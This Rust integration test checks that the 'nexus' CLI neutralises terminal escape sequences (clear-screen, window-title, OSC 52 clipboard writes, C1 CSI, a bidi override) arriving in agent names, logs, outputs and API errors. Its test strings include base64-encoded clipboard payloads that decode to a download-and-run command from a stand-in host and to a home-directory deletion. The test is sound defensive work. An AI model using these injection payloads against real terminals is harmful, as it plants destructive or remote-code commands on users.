//! The `nexus` binary in front of hostile text, as the person running it sees it: a publisher's
//! agent name, an agent's log lines and output, and an API error message carrying the escape
//! sequences of issue 13 (`ESC[2J` clear screen, `ESC]0;…BEL` window title, `ESC]52;c;…BEL`
//! clipboard write, the C1 CSI U+009B, a bidi override). Everything reaches stdout and stderr
//! as visible `\u{..}` escapes and none of it raw, and an output document is still the same JSON.
//!
//! The chain is real (anvil with the contracts: the agent, the purchase and the request are real
//! transactions); the AgentNexus API is a small fake speaking its GraphQL, blob, output and
//! graphql-transport-ws protocols, so the hostile text is exactly what the test chose.

mod common;

use std::process::Output;

use alloy::primitives::{Address, keccak256};
use axum::Router;
use axum::body::Bytes;
use axum::extract::ws::{Message, WebSocket, WebSocketUpgrade};
use axum::response::Response;
use axum::routing::{get, post, put};
use nexus_testkit::Devnet;
use serde_json::{Value, json};

use common::nexus;

const NAME: &str = "Summ\u{1b}]0;pwned\u{7}arizer \u{202e}fdp.exe";
const LINES: [&str; 5] = [
    "\u{1b}[2J",
    "\u{1b}]0;all good\u{7}",
    "\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{7}",
    "csi \u{9b}2J",
    "kept: café 日本 🦀\tend",
];
const LATE_LINE: &str = "late \u{1b}[31mred";
const ERROR: &str = "no such agent \u{1b}]52;c;cm0gLXJmIH4=\u{7}";

fn output_document() -> Value {
    json!({ "summary": "\u{1b}[2JAll good\u{1b}]52;c;cm0gLXJmIH4=\u{7}", "c1": "\u{9b}2J", "bidi": "\u{202e}fdp.exe" })
}

async fn graphql(axum::Json(body): axum::Json<Value>) -> axum::Json<Value> {
    let query = body["query"].as_str().unwrap_or_default();
    let answer = if query.contains("signInChallenge") {
        json!({ "data": { "signInChallenge": { "nonce": "abcdef0123456789", "domain": "localhost", "chainId": null } } })
    } else if query.contains("signIn(") {
        json!({ "data": { "signIn": { "token": "session" } } })
    } else if query.contains("logs(afterSeq") {
        json!({ "data": { "execution": { "logs": [{ "stream": "stderr", "line": LATE_LINE }] } } })
    } else if query.contains("agent(id:") {
        json!({ "data": { "agent": { "id": "1", "name": NAME } } })
    } else if query.contains("sort: OLDEST") {
        json!({ "data": { "agents": {
            "nodes": [{ "id": "1", "name": NAME, "price": "1000", "paymentToken": Address::ZERO,
                        "category": "GENERAL", "status": "ACTIVE", "stats": { "executions": 0, "successRate": null } }],
            "pageInfo": { "hasNextPage": false, "endCursor": null } } } })
    } else if query.contains("entitlements") {
        json!({ "data": { "entitlements": { "nodes": [] } } })
    } else {
        json!({ "data": null, "errors": [{ "message": ERROR }] })
    };
    axum::Json(answer)
}

async fn put_blob(body: Bytes) -> axum::Json<Value> {
    axum::Json(json!({ "hash": keccak256(&body) }))
}

async fn output() -> String {
    output_document().to_string()
}

async fn ws(upgrade: WebSocketUpgrade) -> Response {
    upgrade.protocols(["graphql-transport-ws"]).on_upgrade(follow)
}

/// The execution subscription says REQUESTED; once the CLI subscribes to the logs, the hostile
/// lines come, then SUCCEEDED.
async fn follow(mut socket: WebSocket) {
    async fn send(socket: &mut WebSocket, message: Value) {
        let _ = socket.send(Message::Text(message.to_string().into())).await;
    }
    let execution = |status: &str| {
        json!({ "id": "execution", "type": "next",
                "payload": { "data": { "executionUpdated": { "status": status, "payout": null } } } })
    };
    while let Some(Ok(message)) = socket.recv().await {
        let Message::Text(text) = message else { continue };
        let Ok(message) = serde_json::from_str::<Value>(text.as_str()) else { continue };
        match (message["type"].as_str(), message["id"].as_str()) {
            (Some("connection_init"), _) => send(&mut socket, json!({ "type": "connection_ack" })).await,
            (Some("subscribe"), Some("execution")) => send(&mut socket, execution("REQUESTED")).await,
            (Some("subscribe"), Some("logs")) => {
                for (seq, line) in LINES.iter().enumerate() {
                    let log = json!({ "attempt": 1, "seq": seq, "stream": "stderr", "line": line });
                    send(
                        &mut socket,
                        json!({ "id": "logs", "type": "next", "payload": { "data": { "executionLogs": log } } }),
                    )
                    .await;
                }
                send(&mut socket, execution("SUCCEEDED")).await;
            }
            _ => {}
        }
    }
}

/// stdout and stderr hold none of the hostile characters raw.
fn assert_neutralised(what: &str, out: &Output) -> String {
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    for raw in ['\u{1b}', '\u{7}', '\u{9b}', '\u{202e}'] {
        assert!(!text.contains(raw), "{what}: U+{:04X} reached the terminal:\n{text:?}", raw as u32);
    }
    text
}

#[tokio::test]
async fn hostile_names_logs_outputs_and_errors_reach_the_terminal_neutralised() {
    let devnet = Devnet::start().await.expect("devnet");
    // Agent 1, priced in ETH so the buyer needs no tokens.
    devnet.register_agent(devnet.signer(4).address(), Address::ZERO, 1000, "ipfs://hostile").await.expect("registered");

    let app = Router::new()
        .route("/graphql", post(graphql))
        .route("/graphql/ws", get(ws))
        .route("/v1/blobs", put(put_blob))
        .route("/v1/executions/{id}/output", get(output));
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let api = format!("http://{}", listener.local_addr().expect("addr"));
    tokio::spawn(async move { axum::serve(listener, app).await });
    let dir = tempfile::tempdir().expect("tempdir");
    let input = dir.path().join("input.json");
    std::fs::write(&input, r#"{"text":"hello"}"#).expect("input");

    // The catalog: the publisher's name.
    let out = nexus(&devnet, &api, dir.path(), &["agents"]).await;
    assert!(out.status.success(), "{out:?}");
    let text = assert_neutralised("agents", &out);
    assert!(text.contains("Summ\\u{1b}]0;pwned\\u{7}arizer \\u{202e}fdp.exe"), "{text}");

    // A purchase by id: the name in the narration.
    let out = nexus(&devnet, &api, dir.path(), &["buy", "1", "--units", "1"]).await;
    assert!(out.status.success(), "{out:?}");
    let text = assert_neutralised("buy", &out);
    assert!(text.contains("bought 1 credit of Summ\\u{1b}]0;pwned\\u{7}arizer"), "{text}");

    // A run followed to the end: log lines on stderr, the output document on stdout.
    let out = nexus(&devnet, &api, dir.path(), &["run", "1", "--input", input.to_str().expect("path"), "--wait"]).await;
    assert!(out.status.success(), "{out:?}");
    let text = assert_neutralised("run --wait", &out);
    for shown in [
        "[stderr] \\u{1b}[2J",
        "[stderr] \\u{1b}]0;all good\\u{7}",
        "[stderr] \\u{1b}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\u{7}",
        "[stderr] csi \\u{9b}2J",
        "[stderr] kept: café 日本 🦀\tend",
        "[stderr] late \\u{1b}[31mred",
    ] {
        assert!(text.contains(shown), "missing {shown:?} in\n{text}");
    }
    let stdout = String::from_utf8(out.stdout.clone()).expect("utf-8");
    let printed: Value = serde_json::from_str(&stdout).expect("the output is still JSON");
    assert_eq!(printed, output_document(), "the same JSON value");
    assert!(stdout.contains(r"\u001b[2JAll good") && stdout.contains(r"\u009b2J") && stdout.contains(r"\u202e"));

    // An API error quoting hostile text, through the error printer.
    let out = nexus(&devnet, &api, dir.path(), &["buy", "some-name"]).await;
    assert!(!out.status.success(), "{out:?}");
    let text = assert_neutralised("error", &out);
    assert!(text.contains("no such agent \\u{1b}]52;c;cm0gLXJmIH4=\\u{7}"), "{text}");
}
